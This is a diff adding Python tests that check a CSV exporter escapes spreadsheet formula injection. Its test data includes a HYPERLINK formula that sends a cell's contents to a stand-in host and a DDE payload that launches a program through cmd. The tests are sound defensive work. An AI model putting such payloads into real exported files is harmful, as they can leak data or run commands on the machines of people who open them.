@@ -38,6 +38,32 @@ def test_csv_reads_back():
     assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ['say "x", y', "1"]]
 
 
+FORMULAS = [
+    '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "-ZZ", "\uff1d1+1",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_has_no_cell_that_a_spreadsheet_runs(text):
+    rows = [(text, f"a{text}")]
+
+    ((_, _), (first, second)) = csv.reader(io.StringIO(written(Format.CSV, rows=rows)))
+
+    assert (first, second) == (f"'{text}", f"a{text}")
+    assert written(Format.TSV, rows=rows) == f"{text}\ta{text}\n"
+
+
+def test_tabs_and_returns_before_a_formula_are_written_out():
+    text = written(Format.CSV, rows=[("\t=1", "\r=1")])
+
+    assert text.splitlines()[1] == "\\t=1,\\r=1"
+
+
+@pytest.mark.parametrize("number", [-1, -0.5, "-0.5", "+1e-3", "-inf"])
+def test_numbers_of_csv_stay_numbers(number):
+    assert written(Format.CSV, rows=[(number, -0.0)]) == f"a,b\n{number},-0.0\n"
+
+
 def test_items_are_written_before_the_next_is_made():
     stream = io.StringIO()
 
